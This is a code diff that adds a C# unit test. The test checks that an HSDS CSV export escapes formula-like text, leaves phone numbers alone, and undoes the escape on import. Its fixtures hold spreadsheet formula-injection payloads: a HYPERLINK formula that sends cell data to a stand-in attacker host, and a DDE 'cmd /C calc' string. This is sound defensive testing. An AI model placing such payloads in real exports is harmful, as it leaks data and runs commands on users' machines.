@@ -158,6 +158,47 @@ public sealed class HsdsTabularExportTests : IAsyncLifetime
         Assert.Contains("/api/hsds/", links);
     }
 
+    [Fact]
+    public async Task FormulaLikeText_IsEscapedInThePublicDownload_PhoneNumbersAreNot_AndTheImportTakesTheEscapeOff()
+    {
+        const string Organisation = "=1+2 Danish Life Science Cluster";
+        const string Name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
+        const string Description = "@SUM(1+1)*cmd|' /C calc'!A0";
+        await _portal.WithDbAsync(async db =>
+        {
+            var organisation = await db.Organisations.SingleAsync(o => o.SeedKey == OrganisationSeed.Dlsc);
+            organisation.Name = Organisation;
+            var offer = await db.Offers.SingleAsync(o => o.SeedKey == "is-test-beds");
+            (offer.Name, offer.Description) = (Name, Description);
+            (offer.ContactName, offer.ContactEmail, offer.ContactPhone) = ("-Test Beds desk", "testbeds@example.org", "+46 40 32 10 00");
+            await db.SaveChangesAsync();
+        });
+
+        var zip = await _portal.CreatePortalClient().GetByteArrayAsync("/api/hsds/export.zip");
+
+        var tables = ReadZip(zip, out _);
+        Assert.Contains(tables["organizations.csv"].Rows, r => r["name"] == "'" + Organisation);
+        var service = Assert.Single(tables["services.csv"].Rows, r => r["name"] == "'" + Name);
+        Assert.Equal("'" + Description, service["description"]);
+        Assert.Contains(tables["contacts.csv"].Rows, r => r["name"] == "'-Test Beds desk");
+        Assert.Contains(tables["phones.csv"].Rows, r => r["number"] == "+46 40 32 10 00");
+        Assert.DoesNotContain(tables.Values.SelectMany(t => t.Rows).SelectMany(r => r.Values), v => v is ['=' or '@', ..]);
+
+        var counts = await CountsAsync();
+        var results = await _portal.WithDbAsync(async db =>
+        {
+            using var stream = new MemoryStream(zip);
+            return await new HsdsPackageImport(db, _portal.Services.GetRequiredService<TimeProvider>()).ImportAsync(stream, write: true);
+        });
+        Assert.All(results, r => Assert.True(r.Written, string.Join("; ", r.Preview.FileErrors)));
+        Assert.Equal(counts, await CountsAsync());
+        var (organisationName, offerName, offerDescription) = await _portal.WithDbAsync(async db => (
+            await db.Organisations.Where(o => o.SeedKey == OrganisationSeed.Dlsc).Select(o => o.Name).SingleAsync(),
+            await db.Offers.Where(o => o.SeedKey == "is-test-beds").Select(o => o.Name).SingleAsync(),
+            await db.Offers.Where(o => o.SeedKey == "is-test-beds").Select(o => o.Description).SingleAsync()));
+        Assert.Equal((Organisation, Name, Description), (organisationName, offerName, offerDescription));
+    }
+
     private async Task<(int, int, int, int)> CountsAsync() => await _portal.WithDbAsync(async db =>
         (await db.Organisations.CountAsync(), await db.Programmes.CountAsync(), await db.Offers.CountAsync(), await db.OfferTerms.CountAsync()));
 
